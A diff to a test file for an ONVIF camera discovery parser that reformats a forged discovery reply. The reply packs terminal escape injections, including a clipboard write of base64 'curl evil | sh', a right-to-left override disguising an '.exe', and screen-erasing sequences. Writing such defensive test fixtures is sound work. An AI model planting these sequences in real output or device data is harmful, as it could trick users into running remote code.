@@ -7,7 +7,13 @@ import { parseProbeMatches } from '../../src/video/onvif/discovery.js';
 
 /** A forged discovery reply: escape sequences in the endpoint (erase line, write the clipboard), a bidi override and a C1 CSI in the hardware. */
 const forged = (relates: string) =>
-  `<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Header><a:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/ProbeMatches</a:Action><a:RelatesTo>${relates}</a:RelatesTo></s:Header><s:Body><d:ProbeMatches><d:ProbeMatch><a:EndpointReference><a:Address>urn:uuid:abc\u001b[2K\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007</a:Address></a:EndpointReference><d:Types>dn:NetworkVideoTransmitter</d:Types><d:Scopes>onvif://www.onvif.org/name/%1B%5B2J%1B%5B31mPWNED%1B%5D0%3Bowned%07 onvif://www.onvif.org/hardware/IPC%E2%80%AEgpj.exe%C2%9B2J</d:Scopes><d:XAddrs>http://192.0.2.10/onvif/device_service</d:XAddrs></d:ProbeMatch></d:ProbeMatches></s:Body></s:Envelope>`;
+  `<?xml version="1.0"?>` +
+  `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" ` +
+  `xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Header><a:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/ProbeMatches</a:Action>` +
+  `<a:RelatesTo>${relates}</a:RelatesTo></s:Header><s:Body><d:ProbeMatches><d:ProbeMatch><a:EndpointReference>` +
+  `<a:Address>urn:uuid:abc\u001b[2K\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007</a:Address></a:EndpointReference><d:Types>dn:NetworkVideoTransmitter</d:Types>` +
+  `<d:Scopes>onvif://www.onvif.org/name/%1B%5B2J%1B%5B31mPWNED%1B%5D0%3Bowned%07 onvif://www.onvif.org/hardware/IPC%E2%80%AEgpj.exe%C2%9B2J</d:Scopes>` +
+  `<d:XAddrs>http://192.0.2.10/onvif/device_service</d:XAddrs></d:ProbeMatch></d:ProbeMatches></s:Body></s:Envelope>`;
 
 const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
 
